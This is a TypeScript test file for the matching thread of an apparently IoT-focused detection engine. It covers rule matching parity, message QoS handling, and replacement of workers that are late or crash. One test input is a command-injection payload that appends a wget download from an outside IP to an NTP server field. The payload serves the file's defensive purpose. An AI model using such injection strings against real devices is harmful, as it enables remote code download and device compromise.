import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pino } from "pino";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { stringify } from "yaml";
import { compileRules } from "./compile.ts";
import { loadRulePack } from "./load-pack.ts";
import { type MatchingThread, startMatchingThread } from "./matching-thread.ts";
import { MatchTooDear } from "./pattern-matcher.ts";
import { sampleRule } from "./sample-rule.ts";

const log = pino({ level: "silent" });
const text = (content: string) => Buffer.from(content);
let directory: string;
let thread: MatchingThread;
const replaced: string[] = [];

beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), "sentinel-thread-"));
  replaced.length = 0;
});
afterEach(async () => {
  await thread.close();
  rmSync(directory, { recursive: true });
});

it("finds in the thread what is found here", async () => {
  const rules = `${import.meta.dirname}/../../../rules`;
  const here = compileRules(await loadRulePack(rules));
  const { version } = here;
  thread = startMatchingThread({ directory: rules, version, log, onReplaced: () => {} });
  const attack = text(`{"ntp":"pool.ntp.org; wget http://198.51.100.7/a"}${" ".repeat(60_000)}`);

  const found = await thread.match(attack, "device");
  expect(found).toEqual(here.match(attack, "device"));
  expect(found.length).toBeGreaterThan(0);
  expect(thread.notReady()).toBeUndefined();
});

it("is told how a message came", async () => {
  const detection = { a: { "mqtt.qos": 0 }, condition: "a" };
  const { pack, file: _file, ...rule } = sampleRule({ detection });
  writeFileSync(join(directory, "pack.yaml"), stringify(pack));
  writeFileSync(join(directory, "rules.yaml"), stringify(rule));
  const { version } = compileRules(await loadRulePack(directory));
  thread = startMatchingThread({ directory, version, log, onReplaced: () => {} });

  expect(await thread.match(text("x"), "device", { qos: 0 })).toHaveLength(1);
  expect(await thread.match(text("x"), "device", { qos: 1 })).toEqual([]);
});

describe("a thread that misbehaves", () => {
  const start = () => {
    thread = startMatchingThread({
      ...{ directory, version: "v", log, budgetMs: 300 },
      onReplaced: (code) => replaced.push(code),
      program: new URL("./misbehaving-worker.fixture.ts", import.meta.url),
    });
    return thread;
  };

  it("is replaced when it is late, and a payload that is late twice is given up alone", async () => {
    const { match } = start();
    const outcomes = await Promise.allSettled([
      match(text("late"), "device"),
      match(text("fine"), "device"),
    ]);
    expect(outcomes[0]).toMatchObject({ reason: expect.any(MatchTooDear) });
    expect(outcomes[1]).toEqual({ status: "fulfilled", value: [] });
    expect(replaced).toEqual(["late", "late"]);
  });

  it("is replaced when it dies, and what it had is tried again", async () => {
    const { match } = start();
    expect(await match(text("once"), "device")).toEqual([]);
    expect(replaced).toEqual(["died"]);
    await expect(match(text("die"), "device")).rejects.toThrow(MatchTooDear);
    expect(await match(text("fine"), "device")).toEqual([]);
    expect(thread.waiting()).toBe(0);
  });

  it("hands on a failure of the engine, which is no fault of the thread", async () => {
    const { match } = start();
    await expect(match(text("fail"), "device")).rejects.toMatchObject({ code: "engine" });
    expect(replaced).toEqual([]);
  });

  it("is not used when it has other rules than its process", async () => {
    const lines: string[] = [];
    const telling = pino({}, { write: (line) => void lines.push(line) });
    thread = startMatchingThread({
      ...{ directory, version: "other", log: telling, onReplaced: () => {} },
      program: new URL("./misbehaving-worker.fixture.ts", import.meta.url),
    });
    void thread.match(text("fine"), "device");
    await expect.poll(() => lines.join(), { timeout: 60_000 }).toContain("has other rules");
    expect(thread.waiting()).toBe(1);
    expect(thread.notReady()).toContain("not up");
  });
});
